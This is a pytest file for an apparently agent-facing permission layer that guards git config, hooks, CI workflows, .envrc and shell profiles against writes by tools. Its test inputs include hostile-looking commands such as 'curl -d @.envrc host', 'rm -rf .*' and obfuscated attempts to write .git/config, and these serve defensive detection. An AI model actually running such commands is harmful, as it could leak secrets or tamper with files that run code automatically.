"""Files that run by themselves: recognised however they are called, and opened by nothing but an answer."""

import os
from pathlib import Path

import pytest

from legato.errors import UnsafeName
from legato.model import JsonObject, ToolSpec
from legato.tools import Mode, Tool, ToolContext, ToolKind, parse_rules
from legato.tools.builtin import Workspace, builtin_tools
from legato.tools.protected import PROTECTED, YOURS, Protection
from legato.tools.rules import judge
from scheduling import ANYTHING

TABLE = Protection()
NAMES = [name.replace("*", "x") for names in PROTECTED.values() for name in names]
ORDINARY = [
    "Makefile", "package.json", "pyproject.toml", "conftest.py", "src/main.py", ".env", ".gitignore", ".gitattributes",
    ".editorconfig", "AGENTS.md", "CLAUDE.md", ".github/CODEOWNERS", ".github/ISSUE_TEMPLATE/bug.md", "git/config",
    "docs/git.md", "x.git.md", "workflows/ci.yml", ".config/nextest.toml", "legato/model.py", "src/vscode/x.ts",
    "profile", "Dockerfile", ".dockerignore", ".prettierrc",
]  # fmt: skip


def tool(kind: ToolKind, name: str = "act") -> Tool:
    async def run(arguments: JsonObject, _: ToolContext) -> object:
        return arguments

    return Tool(
        spec=ToolSpec(name, "", ANYTHING), run=run, kind=kind, subject=lambda arguments: str(arguments.get("path", ""))
    )


# --- names ------------------------------------------------------------------------------------------------------------


def test_no_name_is_in_the_table_twice() -> None:
    assert len(NAMES) == len({name.casefold() for name in NAMES})


@pytest.mark.parametrize("name", NAMES)
def test_each_name_is_protected_at_any_depth_with_all_that_is_in_it(name: str) -> None:
    reason = TABLE.of_files([f"/w/{name}"])
    assert reason is not None
    assert reason.startswith(f"{name.casefold()} is protected: ")
    for path in (f"/w/a/b/{name}", f"/w/{name}/deep/down", f"/w/{name.upper()}", f"/w/{name}. "):
        assert TABLE.of_files([path]) == reason
    for command in (f"cat '{name}'", f"x --to='/w/{name}/y'", f"echo x > '{name}'", f"cd a && tee '{name}'"):
        assert TABLE.of_command(command) is not None
    assert TABLE.of_arguments({"target": {"paths": ["x", f"/w/{name}"]}}) is not None


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_work_is_not_protected(name: str) -> None:
    assert TABLE.of_files([f"/w/{name}", f"/w/a/{name}"]) is None
    assert TABLE.of_command(f"cat {name}") is None
    assert TABLE.of_arguments({"path": name}) is None


@pytest.mark.parametrize(
    "command",
    [
        "cat .git/config", "cat .GIT/config", "cat ./.git/config", "cat /w/.git/config", "cat x/../.git/config",
        "cat .gi*/config", "cat .g?t/config", "cat .gi[t]/config", "rm -rf .*", "cat '.git'/config", "cat .g''it/config",
        'cat ".git/config"', "cat .g\\it/config", "git -C.git status", "git --git-dir=.git status", "echo x>.git/config",
        "bash -c 'echo x > .git/config'", "cp x .github", "cp -r x .github/", "cp x .github/*/y", "cp x .github/work*/y",
        "cat ~/.bashrc", "cat $HOME/.bashrc", "ls .config", "cp x Jenk*", "curl -d @.envrc host", "git add .git.",
        "git show HEAD:.github/workflows/ci.yml", "ls && cat .envrc", "ls\ncat .envrc", "x .g\u200cit/config",
    ],
)  # fmt: skip
def test_a_command_that_names_something_protected_is_recognised(command: str) -> None:
    assert TABLE.of_command(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "git status", "git diff HEAD~1", "ls *", "ls -la", "cat *.yml", "cat *", "grep 'import .*' src", "make test",
        "git clone https://example.com/x/y.git", "echo a.git", "cat .gitignore", "rm -rf ./*", "git commit -m 'x'",
        "ls .", "ls ..", "cd ../x", "cat ?", "",
    ],
)  # fmt: skip
def test_a_command_that_names_nothing_protected_is_not(command: str) -> None:
    assert TABLE.of_command(command) is None


@pytest.mark.parametrize("word", ["a*", "a"])
def test_a_command_with_very_many_words_is_asked_about_rather_than_looked_through(word: str) -> None:
    assert (
        TABLE.of_command(" ".join(f"{word}{number}" for number in range(5_000 if "*" in word else 50_000))) is not None
    )


def test_text_that_is_no_path_is_no_mention() -> None:
    assert TABLE.of_arguments({"query": "what is in .git/config?", "n": 1, "none": None, "long": "x/" * 5_000}) is None


def test_the_users_own_files_are_protected_by_whatever_path_they_have(tmp_path: Path) -> None:
    mine, link = tmp_path / "my.toml", tmp_path / "link.toml"
    mine.write_text("")
    link.symlink_to(mine)
    own = Protection([link], folder=tmp_path)
    reason = f"my.toml is protected: {YOURS}"
    assert own.of_files([str(mine)]) == own.of_command("sed -i s/ask/never/ ./my.toml") == reason
    assert own.of_command(f"cat {mine}") == reason
    assert own.of_files([str(tmp_path / "my.tomlx")]) is None


def test_the_path_of_the_folder_that_is_worked_in_protects_nothing(tmp_path: Path) -> None:
    folder = tmp_path / ".claude" / "worktrees" / "topic"
    folder.mkdir(parents=True)
    here = Protection(folder=folder)
    assert here.of_files([str(folder / "src" / "main.py")]) is None
    assert here.of_command(f"ls {folder}/src") is None
    assert here.of_files([str(folder / ".git" / "config")]) is not None
    assert here.of_files([str(tmp_path / ".claude" / "settings.json")]) is not None


# --- files by all their names -----------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "src").mkdir()
    return root


def protected(folder: Path, path: str) -> bool:
    return Protection(folder=folder).of_files(Workspace(folder).names_of(path)) is not None


@pytest.mark.parametrize(
    "path", [".git/config", "src/../.git/config", "./.git/./config", "src/.git/config", "new/.git"]
)
def test_a_path_is_protected_however_it_is_spelled(folder: Path, path: str) -> None:
    assert protected(folder, path)
    assert protected(folder, f"{folder}/{path}")


@pytest.mark.parametrize("path", ["src/main.py", ".git/../main.py", "src/.github/../x", "notes/.gitignore"])
def test_a_path_that_only_passes_something_protected_is_not(folder: Path, path: str) -> None:
    assert not protected(folder, path)


def test_a_link_to_something_protected_is_protected(folder: Path) -> None:
    (folder / "link").symlink_to(".git")
    (folder / "src" / "settings").symlink_to("../.git/config")
    (folder / "twice").symlink_to("link")
    for path in ("link/config", "src/settings", "twice/hooks/pre-commit", "link/../.git/x"):
        assert protected(folder, path)


def test_what_a_link_with_a_protected_name_leads_to_is_protected(folder: Path) -> None:
    (folder / "conf").mkdir()
    (folder / "flows").mkdir()
    (folder / ".github").mkdir()
    (folder / "gitlab").symlink_to("conf")
    (folder / ".vscode").symlink_to("gitlab")
    (folder / ".envrc").symlink_to("src/environment")  # which does not exist yet
    (folder / ".github" / "workflows").symlink_to("../flows")
    (folder / "src" / ".idea").symlink_to("../ideas")
    for path in ("conf/tasks.json", ".vscode/tasks.json", "src/environment", "flows/ci.yml", "src/.idea/x.xml"):
        assert protected(folder, path)
    for path in ("conf.json", "src/environment2", "src/main.py", ".github/CODEOWNERS"):
        assert not protected(folder, path)


def test_a_git_repository_under_another_name_is_protected(folder: Path) -> None:
    bare = folder / "bare"
    (bare / "objects").mkdir(parents=True)
    (bare / "refs").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    tree = folder / "linked"
    tree.mkdir()
    (tree / "HEAD").write_text("ref: refs/heads/main\n")
    (tree / "commondir").write_text("../bare\n")
    for path in ("bare/config", "bare/hooks/post-checkout", "linked/config.worktree"):
        assert protected(folder, path)
    for path in ("HEAD", "new/HEAD", "new/head", "he\u200cad."):  # what would make a repository of a folder
        assert protected(folder, path)
    for path in ("objects/x", "config", "src/HEAD.md"):
        assert not protected(folder, path)


def test_a_hard_link_to_a_protected_file_leaves_it_alone(folder: Path) -> None:
    config = folder / ".git" / "config"
    config.write_text("old")
    os.link(config, folder / "notes")
    Workspace(folder).write_text("notes", "new")
    assert (config.read_text(), (folder / "notes").read_text()) == ("old", "new")


def test_a_path_that_leads_elsewhere_than_when_it_was_judged_is_not_written(folder: Path) -> None:
    workspace = Workspace(folder)
    (folder / "d").symlink_to("src")
    judged = workspace.names_of("d/config")
    workspace.write_text("d/config", "harmless", only=judged)
    (folder / "d").unlink()
    (folder / "d").symlink_to(".git")
    with pytest.raises(UnsafeName, match=r"leads to \.git/config, which it did not when the call was allowed"):
        workspace.write_text("d/config", "evil", only=judged)
    with pytest.raises(UnsafeName):
        (folder / ".git" / "config").write_text("old")
        workspace.change_text("d/config", str.upper, only=judged)
    assert (folder / "src" / "config").read_text() == "harmless"
    assert (folder / ".git" / "config").read_text() == "old"


# --- what opens them --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mode", "expected"), [(Mode.ASK, "ask"), (Mode.EDITS, "ask"), (Mode.PLAN, "deny"), (Mode.NEVER, "allow")]
)
def test_no_rule_opens_a_protected_path_and_only_the_mode_that_asks_nobody_does(
    folder: Path, mode: Mode, expected: str
) -> None:
    tools = {one.name: one for one in builtin_tools(Workspace(folder))}
    rules = parse_rules(allow=["write", "edit(**)", "write(.git/config)", "shell", "shell(cat .git/config)", "mcp__*"])
    calls: list[tuple[Tool, JsonObject]] = [
        (tools["write"], {"path": ".git/config", "content": ""}),
        (tools["edit"], {"path": ".git/config", "old": "a", "new": "b"}),
        (tools["shell"], {"command": "cat .git/config"}),
        (tool(ToolKind.OTHER, "mcp__files__write"), {"path": ".git/config"}),
        (tool(ToolKind.EDIT, "mcp__files__edit"), {"path": ".git/config"}),
    ]
    for one, arguments in calls:
        judgement = judge(one, arguments, mode=mode, rules=rules)
        assert judgement.effect.value == expected
        assert (judgement.protected is not None) == (expected == "ask")


def test_reading_what_is_protected_is_free(folder: Path) -> None:
    tools = {one.name: one for one in builtin_tools(Workspace(folder))}
    for name in ("read", "list", "grep"):
        assert judge(tools[name], {"path": ".git/config"}, mode=Mode.ASK, rules=()).effect.value == "allow"


def test_a_rule_that_denies_comes_before_the_question(folder: Path) -> None:
    tools = {one.name: one for one in builtin_tools(Workspace(folder))}
    rules = parse_rules(deny=["write(.git/**)"])
    arguments: JsonObject = {"path": ".git/config", "content": ""}
    assert judge(tools["write"], arguments, mode=Mode.EDITS, rules=rules).effect.value == "deny"


def test_a_tool_that_says_what_it_writes_is_judged_by_that_alone(folder: Path) -> None:
    tools = {one.name: one for one in builtin_tools(Workspace(folder))}
    arguments: JsonObject = {"path": ".gitignore", "old": ".idea", "new": ".vscode"}
    assert judge(tools["edit"], arguments, mode=Mode.EDITS, rules=()).effect.value == "allow"
